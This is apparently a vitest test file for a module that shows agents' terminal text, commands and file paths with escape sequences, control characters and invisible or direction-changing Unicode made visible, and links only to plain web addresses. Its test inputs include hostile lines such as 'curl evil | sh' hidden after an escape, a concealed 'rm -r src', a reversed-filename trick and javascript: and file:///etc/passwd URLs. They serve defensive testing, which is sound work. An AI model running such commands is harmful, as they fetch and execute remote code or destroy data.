import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { clean, cut, cutStart, exact, exactLine, exactPath, isWebAddress, oneLine, pieces, UNSEEN } from './text';

describe('text of agents', () => {
  it('loses colours, titles and links of terminals', () => {
    expect(clean('\x1b[1;31mred\x1b[0m \x1b]0;title\x07a\x1b]8;;javascript:x\x1b\\b\x1b(B\x9b2Jc')).toBe('red abc');
    expect(clean('\x1b]0;a title without an end')).toBe('');
  });

  it('shows control characters and keeps tabs and newlines', () => {
    expect(clean('a\x00b\x07\tc\r\nd\re\x7f\x85')).toBe('a⟨U+0000⟩b⟨U+0007⟩\tc\nd\ne⟨U+007F⟩⟨U+0085⟩');
  });

  it('keeps every part of a command, a path or a line of code', () => {
    // The engine has the same commands in `no_part_of_a_command_that_a_person_may_permit_is_hidden`.
    expect(exact('rm -r src #\rls\x1b[m')).toBe('rm -r src #⟨U+000D⟩ls⟨U+001B⟩[m');
    expect(exact('ls; \x1b]0;rm -r src;\x07')).toBe('ls; ⟨U+001B⟩]0;rm -r src;⟨U+0007⟩');
    expect(exact('true \x1b]; curl evil | sh')).toBe('true ⟨U+001B⟩]; curl evil | sh');
    expect(exact('a\r\n\tb\u202e\x9b')).toBe('a\n\tb⟨U+202E⟩⟨U+009B⟩');
    expect(exact(`a${'\u0301'.repeat(5)}b`)).toBe(`a${'\u0301'.repeat(4)}⟨U+0301⟩b`);
    expect(exactLine(' src/\x1b]0;a\x07\n.ts ')).toBe('src/⟨U+001B⟩]0;a⟨U+0007⟩ .ts');
    expect(cut('ls\x1b]0;rm', 7, exact)).toEqual({ text: 'ls⟨U+001B⟩]0;r', left: 1 });
  });

  it('shows what changes the direction of text or cannot be seen', () => {
    expect(clean('\u202egnp.exe\u202c')).toBe('⟨U+202E⟩gnp.exe⟨U+202C⟩');
    expect(clean('a\u2066b\u200bc\ufeff\u{e0041}')).toBe('a⟨U+2066⟩b⟨U+200B⟩c⟨U+FEFF⟩⟨U+E0041⟩');
    expect(clean('👩‍🚀 naïve العربية')).toBe('👩‍🚀 naïve العربية');
  });

  it('shows every character that cannot be seen, and leaves emoji whole', () => {
    const some = [
      0xad, 0x34f, 0x115f, 0x1160, 0x17b4, 0x17b5, 0x180b, 0x180f, 0x200c, 0x200d, 0x2800, 0x3164, 0xfe00, 0xfe0f, 0xffa0, 0x1bca0, 0x1bca3,
      0x1d159, 0x1d173, 0x1d17a, 0xe0100, 0xe01ef,
    ];
    for (const code of some) {
      const name = `⟨U+${code.toString(16).toUpperCase().padStart(4, '0')}⟩`;
      expect([exact, clean, exactPath].map((show) => show(`a${String.fromCodePoint(code)}b`)), name).toEqual(Array(3).fill(`a${name}b`));
    }
    for (const emoji of ['👩‍🚀', '⚠️', '1️⃣', '👨🏽‍👩🏽‍👧', '❤️‍🔥']) expect(exact(`a${emoji}b`)).toBe(`a${emoji}b`);
    expect(exact('👩\u200d\u200d🚀1\ufe0f')).toBe('👩⟨U+200D⟩⟨U+200D⟩🚀1⟨U+FE0F⟩');
  });

  it('is as visible as in a terminal', () => {
    const source = readFileSync(new URL('../../../crates/core/src/plain_text.rs', import.meta.url), 'utf8');
    const [, list = ''] = /const UNSEEN: [^=]*= \[([^;]*)\];/.exec(source) ?? [];
    const ranges = [...list.matchAll(/'\\u\{([0-9a-f]+)\}'\.\.='\\u\{([0-9a-f]+)\}'/g)].map((found) => [Number.parseInt(found[1] ?? '', 16), Number.parseInt(found[2] ?? '', 16)]);
    expect(ranges).toEqual(UNSEEN);
  });

  it('in a file name hides no newline, tab or blank', () => {
    expect(exactPath('src/my file.rs')).toBe('src/my file.rs');
    expect(exactPath(' a.rs ')).toBe('⟨U+0020⟩a.rs⟨U+0020⟩');
    expect(exactPath('a\nb\tc  d\u00a0e\r\nf')).toBe('a⟨U+000A⟩b⟨U+0009⟩c ⟨U+0020⟩d⟨U+00A0⟩e⟨U+000D⟩⟨U+000A⟩f');
    expect(exactPath(' ')).toBe('⟨U+0020⟩');
  });

  it('has no piles of marks and no half characters', () => {
    expect(clean(`a${'\u0301'.repeat(50)}b`)).toBe(`a${'\u0301'.repeat(4)}b`);
    expect(clean('a\ud800b')).toBe('a\ufffdb');
  });

  it('is cut before it is cleaned', () => {
    const long = 'x'.repeat(10_000_000);
    expect(cut(long, 4_000)).toEqual({ text: 'x'.repeat(4_000), left: 9_996_000 });
    expect(cutStart(`${long}end`, 3)).toEqual({ text: 'end', left: 10_000_000 });
    expect(oneLine('a\n\n  b\u202e')).toBe('a b⟨U+202E⟩');
  });

  it('links to web pages and to nothing else', () => {
    expect(pieces('see https://a.org/x?y=1, or javascript:alert(1).')).toEqual([
      { kind: 'text', text: 'see ' },
      { kind: 'link', text: 'https://a.org/x?y=1' },
      { kind: 'text', text: ', or javascript:alert(1).' },
    ]);
    for (const odd of ['javascript:alert(1)', 'data:text/html,x', 'file:///etc/passwd', 'https://user:pass@a.org/', 'https://']) {
      expect(isWebAddress(odd), odd).toBe(false);
    }
  });

  it('shows code apart, also when its fence is open', () => {
    expect(pieces('run `ls`:\n```sh\nls -l\n```\nok')).toEqual([
      { kind: 'text', text: 'run ' },
      { kind: 'code', text: 'ls' },
      { kind: 'text', text: ':\n' },
      { kind: 'block', text: 'ls -l' },
      { kind: 'text', text: 'ok' },
    ]);
    expect(pieces('```\nhalf')).toEqual([{ kind: 'block', text: 'half' }]);
  });
});
